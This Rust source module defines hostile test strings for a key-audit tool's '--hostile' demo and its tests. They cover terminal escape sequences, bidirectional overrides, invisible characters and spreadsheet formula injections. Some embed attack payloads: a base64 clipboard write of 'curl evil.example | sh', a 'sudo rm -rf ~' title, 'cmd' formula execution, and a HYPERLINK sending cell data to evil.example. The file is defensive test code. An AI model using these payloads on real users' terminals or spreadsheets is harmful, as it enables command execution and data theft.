//! Hostile text for `keyaudit demo --hostile`: the demo platform serves keys whose names,
//! owners (and so the principals of their events) and purposes, and user agents whose
//! text, carry terminal escape sequences of every kind, bidirectional overrides,
//! zero-width characters, control bytes and spreadsheet formulas; its error answers carry
//! them in their messages. A client that shows any of it raw lets a provider clear the
//! operator's screen, set the clipboard or the window title, or hide text.
//!
//! [`CASES`] is the one list of these strings; the test suite builds its hostile inputs
//! from it too.

use super::data::Dataset;

/// Named hostile strings: escape sequences (CSI, OSC 52/0/8, DCS, APC, PM, SOS, 7- and
/// 8-bit), C0 and C1 controls, bidirectional overrides and isolates, zero-width and
/// other invisible formatting characters, and cells a spreadsheet would run as formulas.
pub const CASES: &[(&str, &str)] = &[
    ("csi-clear", "\x1b[2J\x1b[3J\x1b[Hcleared"),
    ("csi-sgr", "\x1b[31;1;5mred\x1b[0m"),
    ("csi-cursor", "\x1b[10;10H\x1b[Kmoved\x1b[1A\x1b[2K"),
    ("csi-report", "\x1b[6n\x1b[21t\x1b[c"),
    (
        "osc52-clipboard",
        "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07copy",
    ),
    ("osc0-title", "\x1b]0;sudo rm -rf ~\x07title"),
    ("osc2-title-st", "\x1b]2;pwned\x1b\\title"),
    (
        "osc8-hyperlink",
        "\x1b]8;;https://evil.example/login\x1b\\https://sso.talentgrid.example\x1b]8;;\x1b\\",
    ),
    (
        "osc-palette",
        "\x1b]4;1;rgb:00/00/00\x07\x1b]10;?\x07palette",
    ),
    ("dcs", "\x1bP+q544e\x1b\\\x1bP$qm\x1b\\dcs"),
    ("apc", "\x1b_Gf=100,a=T;iVBORw0KGgo=\x1b\\apc"),
    ("pm-sos", "\x1b^private\x1b\\\x1bXstring\x1b\\pm"),
    ("c1-csi", "\u{9b}2J\u{9b}31mc1"),
    ("c1-osc", "\u{9d}0;c1 title\u{9c}c1"),
    ("c1-dcs-apc", "\u{90}q\u{9c}\u{9f}apc\u{9c}\u{85}c1"),
    ("c0-controls", "ok\x08\x08\x07\x0b\x0c\x0e\x0fno"),
    ("cr-overwrite", "benign\rEVIL!!"),
    ("newline-forge", "partner\nkeyaudit: sync ok, 0 findings"),
    ("nul-del", "nul\0byte\x7fdel"),
    ("bidi-rlo", "invoice\u{202e}fdp.exe"),
    (
        "bidi-isolates",
        "\u{2067}admin\u{2069} \u{2066}x\u{2069}\u{2068}y\u{2069}",
    ),
    ("bidi-embeddings", "\u{202a}a\u{202b}b\u{202d}c\u{202c}d"),
    ("bidi-marks", "\u{200e}\u{200f}\u{061c}marks"),
    (
        "zero-width",
        "ad\u{200b}mi\u{200c}n\u{200d}\u{2060}\u{2063}\u{feff}",
    ),
    (
        "formula-eq",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
    ),
    ("formula-plus", "+1+cmd|' /C calc'!A0"),
    ("formula-minus", "-2+3+cmd|' /C calc'!A0"),
    ("formula-at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("formula-tab", "\t=1+1"),
    ("formula-cr", "\r=1+1"),
    (
        "issue-15",
        "curl/8 \x1b]52;c;ZXZpbA==\x07\x1b]0;owned\x07\x1b[2J",
    ),
    (
        "wide-and-combining",
        "日本語 Z\u{0336}\u{0336}\u{0336} 👩\u{200d}💻",
    ),
];

/// Text that appears in the demo's error answers in hostile mode.
pub const ERROR_TEXT: &str = "upstream said: \x1b]52;c;ZXJyb3I=\x07\x1b[2J\u{202e}rorre\u{9b}0m";

/// Length of the one very long field the demo serves (a key's purpose).
pub const LONG_FIELD: usize = 64 * 1024;

/// Rewrites a generated data set in place: key `i` gets case `i` as its name, every third
/// key a hostile owner, every fifth a hostile purpose, the first key a purpose of
/// [`LONG_FIELD`] bytes, and every user agent a hostile tail. Ids stay as they were (they
/// are the paths of the API).
pub(crate) fn poison(d: &mut Dataset) {
    for (i, k) in d.keys.iter_mut().enumerate() {
        let (name, text) = CASES[i % CASES.len()];
        k.name = format!("{text} ({name})");
        if i % 3 == 1 {
            k.owner = format!("{}{text}", k.owner);
        }
        if i % 5 == 2 {
            k.purpose = Some(text.to_string());
        }
    }
    if let Some(k) = d.keys.first_mut() {
        let unit = CASES[0].1;
        k.purpose = Some(unit.repeat(LONG_FIELD / unit.len() + 1));
    }
    for (i, ua) in d.uas.iter_mut().enumerate() {
        ua.push(' ');
        ua.push_str(CASES[(i * 7 + 3) % CASES.len()].1);
    }
}
